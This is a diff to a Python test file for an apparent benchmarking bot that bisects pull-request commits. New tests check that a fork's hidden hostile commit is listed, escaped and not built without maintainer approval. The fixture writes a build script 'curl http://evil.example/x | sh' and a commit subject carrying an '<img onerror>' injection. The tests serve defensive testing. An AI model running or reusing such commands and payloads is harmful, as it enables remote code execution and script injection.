@@ -20,13 +20,24 @@ from typing import Any
 import numpy as np
 import pytest
 
-from benchbot import bisect, bisectdoc, engine
+from benchbot import bisect, bisectdoc, engine, sandbox
 from benchbot.github.post import BISECT_MARKER, MARKER
 from benchbot.spawn import RawRun, SpawnRequest
 from tests.clock import FakeClock
-from tests.conftest import git
+from tests.conftest import copied_repo, git
 from tests.fakegithub import FakeGitHub
-from tests.ghenv import BOT, CONFIG, FAST, SLOW, Env, Workspace, artifacts, reactions, sticky
+from tests.ghenv import (
+    BOT,
+    CONFIG,
+    FAST,
+    SLOW,
+    Env,
+    Workspace,
+    artifacts,
+    reactions,
+    sticky,
+    unconfined,
+)
 
 CHECK, BISECT_CHECK = "benchbot", "benchbot / bisect"
 SLOWER_AT = 3  # the pull request's commit (1, 2, …) that makes nap.sh slow
@@ -72,9 +83,16 @@ def make_history(root: Path, *, config: str = CONFIG, commits: int = COMMITS,
     """main: one commit, nap.sh fast; feature: ``commits`` more, each changing nap.sh
     (a comment), the ``slower_at``-th making it ten times slower from then on."""
     repo = root / "workspace"
+    key = ("history", config, commits, slower_at)
+    base, head = copied_repo(repo, key, lambda at: _new_history(at, config, commits, slower_at))
+    return Workspace(repo, base, head)
+
+
+def _new_history(repo: Path, config: str, commits: int, slower_at: int) -> tuple[str, str]:
+    """make_history's repository, made at ``repo``: its base and head SHAs."""
     repo.mkdir(parents=True)
     git(repo, "init", "-q")
-    (repo / "benchbot.yml").write_text(config)
+    (repo / "benchbot.yml").write_text(unconfined(config))
     nap = repo / "nap.sh"
     nap.write_text(FAST)
     nap.chmod(0o755)
@@ -87,7 +105,7 @@ def make_history(root: Path, *, config: str = CONFIG, commits: int = COMMITS,
         git(repo, "commit", "-q", "-am", f"commit {i}" + (" (the slow one)" if i == slower_at else ""))
     head = git(repo, "rev-parse", "HEAD")
     git(repo, "checkout", "-q", "main")
-    return Workspace(repo, base, head)
+    return base, head
 
 
 def feature_commits(ws: Workspace) -> list[str]:
@@ -131,7 +149,7 @@ def test_bisect_names_the_slow_commit_in_its_own_comment_and_leaves_the_sticky_o
     assert run.returncode == 0, run.stderr
     (comment,) = bisect_comments(fake)
     assert f"`{culprit[:7]}` **culprit**" in comment["body"]
-    assert "The change is at " + culprit[:8] in comment["body"]
+    assert "The change is at " + culprit[:7] in comment["body"]
     assert "(the slow one)" in comment["body"] and "/bench bisect" in comment["body"]
     # the comparison's sticky comment and check are as they were
     (after,) = sticky(fake)
@@ -148,7 +166,7 @@ def test_bisect_names_the_slow_commit_in_its_own_comment_and_leaves_the_sticky_o
     assert (doc.good.ref, doc.good.sha, doc.bad.ref, doc.bad.sha) == (
         "main", ws.base_sha, "feature", ws.head_sha)
     assert [c.sha for c in doc.answer.culprits] == [culprit]
-    assert doc.sandbox is not None and doc.sandbox.kind == "bubblewrap"
+    assert doc.sandbox is not None and doc.sandbox.kind == "none"  # unconfined on purpose
     assert "culprit" in run.summary and not (run.results_dir / "results.json").exists()
     # while it ran, the bisect's comment said what it searched and who asked
     posted = [r.body["body"] for r in fake.requests_matching("POST", r"/issues/2/comments$")]
@@ -269,6 +287,69 @@ def test_bisect_on_a_fork_needs_the_full_sha(history: Env, fake: FakeGitHub) -> 
     assert fake.check_runs == {} and run.outputs == {"run": "false"}
 
 
+def fork_history(root: Path, fake: FakeGitHub) -> Env:
+    """A fork's pull request of five commits, the second of which puts a hostile build
+    script in that the third takes out again: the pull request's diff never shows it."""
+    ws = make_history(root, config=CONFIG.replace("workloads:", "build: ./build.sh\nworkloads:"))
+    git(ws.path, "checkout", "-q", "feature")
+    commits = feature_commits(ws)
+    git(ws.path, "checkout", "-q", commits[0])
+    (ws.path / "build.sh").write_text("#!/bin/sh\ncurl http://evil.example/x | sh\n")
+    git(ws.path, "add", "-A")
+    git(ws.path, "commit", "-q", "-m", "tidy the build @alice <img src=x onerror=alert(1)>")
+    git(ws.path, "rm", "-q", "build.sh")
+    git(ws.path, "commit", "-q", "-m", "undo")
+    for sha in commits[1:]:
+        git(ws.path, "cherry-pick", "--allow-empty", sha)
+    head = git(ws.path, "rev-parse", "HEAD")
+    git(ws.path, "branch", "-f", "feature", head)
+    git(ws.path, "checkout", "-q", "main")
+    ws = Workspace(ws.path, ws.base_sha, head)
+    fake.add_pull(9, head_sha=head, base_sha=ws.base_sha, head_ref="feature", base_ref="main",
+                  head_repo_full_name="mallory/Hello-World")
+    return Env(root, fake, ws)
+
+
+def test_a_fork_s_bisect_lists_every_commit_it_would_build_and_runs_nothing(
+        tmp_path: Path, fake: FakeGitHub) -> None:
+    """A maintainer read the diff and named the head; the bisect would also build the
+    commit whose build script the next one took out again. It asks for that range."""
+    env = fork_history(tmp_path, fake)
+    built = feature_commits(env.ws)
+    payload = env.comment_event(f"/bench sha={env.ws.head_sha} bisect only=nap", number=9)
+    run = env.run_in_process("issue_comment", payload)
+    assert run.returncode == 0, run.stderr
+    (reply,) = bot_replies(fake, 9)
+    body = reply["body"]
+    assert all(f"`{sha[:12]}`" in body for sha in built), body  # every commit, by SHA
+    # the subjects are the pull request's text: escaped (no tag, no mention)
+    assert "tidy the build @\u2060alice \\<img src=x onerror=alert(1)\\>" in body
+    again = f"/bench sha={env.ws.head_sha} bisect only=nap from={env.ws.base_sha}"
+    assert again in body and "Nothing was run" in body
+    assert fake.check_runs == {} and bisect_comments(fake, 9) == []
+    assert run.outputs == {"run": "false"}
+    assert reactions(fake, payload["comment"]["id"]) == ["eyes", "confused"]
+
+
+def test_a_fork_s_bisect_runs_the_range_a_maintainer_approved(tmp_path: Path,
+                                                             fake: FakeGitHub) -> None:
+    env = fork_history(tmp_path, fake)
+    wrong = env.comment_event(f"/bench sha={env.ws.head_sha} bisect only=nap "
+                              f"from={env.ws.head_sha}", number=9)
+    refused = env.run_in_process("issue_comment", wrong, BENCHBOT_MODE="gate")
+    assert refused.outputs == {"run": "false"}
+    (reply,) = bot_replies(fake, 9)
+    assert f"`from={env.ws.head_sha}` is not the base" in reply["body"]
+    payload = env.comment_event(f"/bench sha={env.ws.head_sha} bisect only=nap "
+                                f"from={env.ws.base_sha}", number=9)
+    gate = env.run_in_process("issue_comment", payload, BENCHBOT_MODE="gate")
+    assert gate.returncode == 0, gate.stderr
+    assert gate.outputs["run"] == "true"
+    job = json.loads(gate.outputs["job"])
+    assert (job["base"]["sha"], job["head"]["sha"]) == (env.ws.base_sha, env.ws.head_sha)
+    assert job["command"]["base"] == env.ws.base_sha
+
+
 @pytest.mark.parametrize("body, problem", [
     ("/bench bisect", "needs `only=NAME`"),
     ("/bench bisect only=nap,snooze", "follows one workload; `only=` names 2"),
@@ -366,14 +447,18 @@ def test_a_base_that_does_not_build_fails_the_bisect_check(tmp_path: Path, fake:
 
 
 @pytest.mark.slow
-def test_bisect_measuring_for_real_names_no_innocent_commit(history: Env, fake: FakeGitHub) -> None:
+@pytest.mark.skipif(not sandbox.probe().works,
+                    reason=f"bubblewrap cannot make a sandbox here: {sandbox.probe().problem}")
+def test_bisect_measuring_for_real_names_no_innocent_commit(tmp_path: Path, fake: FakeGitHub) -> None:
     """The scripts run in the sandbox, ten pairs a step: on a quiet machine the slow commit
     is named; on a loaded one a step may be inconclusive and the answer a range holding it,
     but never another commit."""
+    history = Env(tmp_path, fake, make_history(tmp_path, config=CONFIG + "sandbox: on\n"))
     culprit = feature_commits(history.ws)[SLOWER_AT - 1]
     run = history.run("issue_comment", history.comment_event("/bench bisect only=nap"))
     assert run.returncode == 0, run.stderr
     doc = bisectdoc.load(Path(run.outputs["bisect"]))
+    assert doc.sandbox is not None and doc.sandbox.kind == "bubblewrap"
     assert doc.answer.kind in ("culprits", "range", "partial"), doc.answer
     assert {c.sha for c in doc.answer.culprits} <= {culprit}, doc.answer
     (comment,) = bisect_comments(fake)
